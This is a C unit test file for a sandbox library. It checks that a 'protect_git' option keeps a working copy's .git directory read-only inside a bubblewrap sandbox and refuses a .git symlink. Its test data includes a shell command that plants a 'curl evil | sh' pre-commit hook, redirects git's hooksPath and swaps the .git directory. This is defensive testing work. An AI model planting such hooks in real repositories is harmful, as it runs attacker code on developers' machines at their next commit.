/*
 * test_bwrap_git.c - files.protect_git: a writable bind's `.git` is
 * read-only inside the sandbox, and cannot be renamed away and replaced,
 * while the rest of the working copy stays writable.  The control is the
 * same run with protection off, where the hook is planted.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "internal.h"
#include "support.h"

static const char *const attack[] = {
    "sh", "-c",
    "echo 'curl evil | sh' > /work/.git/hooks/pre-commit; "
    "echo '[core] hooksPath = /tmp' >> /work/.git/config; "
    "mv /work/.git /work/old-git && mkdir -p /work/.git/hooks && "
    "echo 'curl evil | sh' > /work/.git/hooks/pre-commit; "
    "echo edited > /work/main.py",
    NULL};

static char *workspace(void)
{
	char *dir = test_mkdtemp(), path[700];

	snprintf(path, sizeof(path), "%s/.git", dir);
	assert_int_equal(mkdir(path, 0755), 0);
	snprintf(path, sizeof(path), "%s/.git/hooks", dir);
	assert_int_equal(mkdir(path, 0755), 0);
	snprintf(path, sizeof(path), "%s/.git/config", dir);
	test_write_file(path, "[core]\n\tbare = false\n");
	snprintf(path, sizeof(path), "%s/main.py", dir);
	test_write_file(path, "print(1)\n");
	return dir;
}

static bool exists(const char *dir, const char *rel)
{
	char path[700];

	snprintf(path, sizeof(path), "%s/%s", dir, rel);
	return access(path, F_OK) == 0;
}

static void run_attack(const char *dir, bool protect, struct test_run *r)
{
	securer_policy *p = securer_policy_new();
	int rc;

	assert_non_null(p);
	assert_int_equal(securer_policy_add_rw_bind(p, dir, "/work"), 0);
	assert_int_equal(securer_policy_set_protect_git(p, protect), 0);
	rc = test_run_sandbox(r, SECURER_BACKEND_BWRAP, p, attack, NULL, NULL,
	                      0);
	if (rc != 0)
		fail_msg("run: %d %s", rc, r->msg);
	securer_policy_free(p);
}

static void test_git_read_only(void **state)
{
	struct test_run *r = calloc(1, sizeof(*r));
	char why[SECURER__ERR_SIZE], *dir, *text, path[700];

	(void)state;
	assert_non_null(r);
	require(test_bwrap_works(why, sizeof(why)), "bwrap: %s", why);

	/* control: without protection the hook is planted */
	dir = workspace();
	run_attack(dir, false, r);
	assert_true(exists(dir, ".git/hooks/pre-commit"));
	test_rmtree(dir);
	free(dir);

	dir = workspace();
	run_attack(dir, true, r);
	assert_false(exists(dir, ".git/hooks/pre-commit"));
	assert_false(exists(dir, "old-git"));
	snprintf(path, sizeof(path), "%s/.git/config", dir);
	text = securer__read_file(path, 1000);
	assert_string_equal(text, "[core]\n\tbare = false\n");
	free(text);
	/* the working copy itself stays writable */
	snprintf(path, sizeof(path), "%s/main.py", dir);
	text = securer__read_file(path, 1000);
	assert_string_equal(text, "edited\n");
	free(text);
	test_rmtree(dir);
	free(dir);
	free(r);
}

static void test_git_symlink_refused(void **state)
{
	securer_policy *p = securer_policy_new();
	securer_sandbox *sb;
	securer_start_opts so;
	const char *argv[] = {"true", NULL};
	char why[SECURER__ERR_SIZE], *dir = test_mkdtemp(), path[700];

	(void)state;
	require(test_bwrap_works(why, sizeof(why)), "bwrap: %s", why);
	snprintf(path, sizeof(path), "%s/.git", dir);
	assert_int_equal(symlink("/etc", path), 0);
	assert_int_equal(securer_policy_add_rw_bind(p, dir, "/work"), 0);
	sb = securer_sandbox_new(p, SECURER_BACKEND_BWRAP);
	securer_start_opts_init(&so);
	assert_int_equal(securer_sandbox_start(sb, argv, &so), -EPERM);
	assert_non_null(strstr(securer_sandbox_error(sb), "is a symlink"));
	securer_sandbox_free(sb);
	securer_policy_free(p);
	test_rmtree(dir);
	free(dir);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_git_read_only),
	    cmocka_unit_test(test_git_symlink_refused),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
